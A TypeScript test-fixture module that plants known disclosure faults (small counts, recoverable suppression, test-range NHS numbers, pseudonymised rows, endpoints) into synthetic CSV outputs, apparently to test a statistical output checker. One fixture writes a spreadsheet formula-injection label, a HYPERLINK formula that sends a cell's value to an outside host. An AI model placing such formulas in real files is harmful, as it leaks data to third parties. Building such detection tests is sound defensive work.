import type { Chance } from './chance.ts';
import { sample, textOf, type Sample } from './file.ts';
import { groups, type Person } from './people.ts';
import { crossTable, roundedTable, type Lines } from './tables.ts';

/** A fault as analysts make it, and the rules of which at least one must be shown for it. */
export type Fault = {
	readonly name: string;
	readonly rules: readonly string[];
	plant(chance: Chance, people: readonly Person[], name: string): Promise<Sample> | Sample;
};

const asCsv = (name: string, lines: Lines): Sample => sample(`${name}.csv`, textOf(lines), 0);

/** The same table with one inner figure changed by `change`, totals left as they were. */
function changed(
	lines: Lines,
	chance: Chance,
	change: (value: string | number) => string | number
): Lines {
	const row = chance.between(1, lines.length - 2);
	const column = chance.between(1, (lines[0]?.length ?? 3) - 2);
	return lines.map((line, at) =>
		line.map((cell, index) => (at === row && index === column ? change(cell) : cell))
	);
}

/** The same cross table with its totals made from its inner figures. */
function totalled(lines: Lines): Lines {
	const add = (cells: Lines[number]): number =>
		cells.reduce<number>((all, one) => all + Number(one), 0);
	const rows = lines.slice(1, -1).map((line) => [...line.slice(0, -1), add(line.slice(1, -1))]);
	const totals = (lines[0] ?? []).slice(1).map((_, at) => add(rows.map((row) => row[at + 1] ?? 0)));
	return [...lines.slice(0, 1), ...rows, ['Total', ...totals]];
}

const uuid = (chance: Chance): string => {
	const hex = Array.from({ length: 32 }, () => chance.between(0, 15).toString(16)).join('');
	return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-8${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20)}`;
};

/** Ten digits with a right check digit (modulus 11), of the range kept for tests. */
export function nhsNumber(chance: Chance): string {
	for (;;) {
		const nine = `999${String(chance.between(0, 999_999)).padStart(6, '0')}`;
		const sum = Array.from(nine).reduce((all, digit, at) => all + Number(digit) * (10 - at), 0);
		const check = (11 - (sum % 11)) % 11;
		if (check < 10) return `${nine}${String(check)}`;
	}
}

export const tableFaults: readonly Fault[] = [
	{
		name: 'a small count',
		rules: ['threshold'],
		plant: (chance, people, name) =>
			asCsv(name, totalled(changed(crossTable(chance, people), chance, () => chance.between(1, 9))))
	},
	{
		name: 'a mark that the totals give away',
		rules: ['recoverable', 'narrow'],
		plant: (chance, people, name) =>
			asCsv(
				name,
				changed(crossTable(chance, people), chance, () => '*')
			)
	},
	{
		name: 'a figure that was not rounded as claimed',
		rules: ['claim'],
		plant(chance, people, name) {
			const rounded = roundedTable(chance, people, name);
			const text = new TextDecoder().decode(rounded.bytes);
			const broken = text.replace(
				/,(\d+[05])(?=[,\n])/,
				(_, count: string) => `,${String(Number(count) + 2)}`
			);
			return { ...rounded, safeCells: 0, bytes: new TextEncoder().encode(broken) };
		}
	},
	{
		name: 'NHS numbers in a column',
		rules: ['nhs-number'],
		plant: (chance, _, name) =>
			asCsv(name, [
				['case', 'reference', 'group'],
				...Array.from({ length: 12 }, (_, at) => [
					at + 1,
					nhsNumber(chance),
					chance.pick(groups.age)
				])
			])
	},
	{
		name: 'a row a person',
		rules: ['pseudonym', 'rows'],
		plant: (chance, people, name) =>
			asCsv(name, [
				['key', 'sex', 'age', 'months'],
				...people.slice(0, 400).map(({ sex, age, months }) => [uuid(chance), sex, age, months])
			])
	},
	{
		name: 'shares of a small group',
		rules: ['percentage', 'complement', 'threshold'],
		plant: (chance, people, name) =>
			asCsv(name, [
				['age', 'people', 'percent_with_event'],
				...groups.age.map((age, at) => {
					const all = people.filter((person) => person.age === age).length;
					const few = at === 0 ? chance.between(1, 4) : Math.round(all / 4);
					return [age, all, ((100 * few) / all).toFixed(2)];
				})
			])
	},
	{
		name: 'smallest and largest values',
		rules: ['endpoint'],
		plant(chance, people, name) {
			const lines = groups.age.map((age) => {
				const values = people
					.filter((person) => person.age === age)
					.map(({ measured }) => measured);
				return [age, values.length, Math.min(...values).toFixed(1), Math.max(...values).toFixed(1)];
			});
			return asCsv(name, [['age', 'n', 'min_hba1c', 'max_hba1c'], ...lines]);
		}
	},
	{
		name: 'a label that is a formula',
		rules: ['formula'],
		plant: (chance, people, name) =>
			asCsv(
				name,
				crossTable(chance, people).map((line, at) =>
					at === 1
						? [`=HYPERLINK("http://example.org/?"&B2,"${String(line[0])}")`, ...line.slice(1)]
						: line
				)
			)
	}
];
